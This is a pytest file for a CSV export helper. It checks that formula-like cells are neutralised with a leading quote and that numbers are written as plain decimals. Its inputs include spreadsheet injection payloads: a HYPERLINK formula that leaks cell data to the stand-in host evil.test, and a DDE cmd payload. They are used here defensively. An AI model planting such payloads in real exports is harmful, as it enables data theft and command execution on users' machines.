import csv
import io
from decimal import Decimal

import pytest

from generations.csv_cells import FORMULA_STARTS, csv_cell, csv_lines
from generations.money import from_pico


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.test/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1", "\0x"],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["openai/gpt-4o", "", "a=b", "x-y", "user@example.com", " =1", "'quoted", "1E+1"])
def test_other_text_is_written_as_it_is(text):
    assert csv_cell(text) == text


def test_every_formula_start_is_neutralised():
    assert all(csv_cell(start + "1").startswith("'") for start in FORMULA_STARTS)


@pytest.mark.parametrize(
    ("number", "text"),
    [
        (from_pico(10 * 10**12), "10"),  # normalised: Decimal("1E+1")
        (Decimal("1E+1"), "10"),
        (Decimal("1E-12"), "0.000000000001"),
        (from_pico(1), "0.000000000001"),
        (Decimal("10.000000000000"), "10.000000000000"),
        (Decimal("-0.5"), "-0.5"),
        (Decimal(0), "0"),
        (1e-12, "0.000000000001"),
        (1e20, "100000000000000000000"),
        (10.0, "10.0"),
        (0.1 + 0.2, "0.30000000000000004"),
        (-3.25, "-3.25"),
        (12, "12"),
        (-7, "-7"),
        (10**20, "100000000000000000000"),
    ],
)
def test_numbers_are_plain_decimals_never_exponents_nor_neutralised(number, text):
    assert csv_cell(number) == text


def test_nothing_is_an_empty_cell_and_other_values_are_text():
    assert csv_cell(None) == ""
    assert csv_cell(True) == "True"
    # Not numbers a spreadsheet can hold: text, neutralised like any other.
    assert [csv_cell(value) for value in (float("-inf"), Decimal("-Infinity"), float("nan"))] == [
        "'-inf",
        "'-Infinity",
        "nan",
    ]


def test_lines_quote_every_cell_so_a_separator_inside_text_starts_no_cell():
    lines = list(csv_lines([["name", "cost"], ["a;=1+1", Decimal("1E+1")], ['say "hi"', None]]))
    assert lines == ['"name","cost"\r\n', '"a;=1+1","10"\r\n', '"say ""hi""",""\r\n']
    assert list(csv.reader(io.StringIO("".join(lines)))) == [["name", "cost"], ["a;=1+1", "10"], ['say "hi"', ""]]
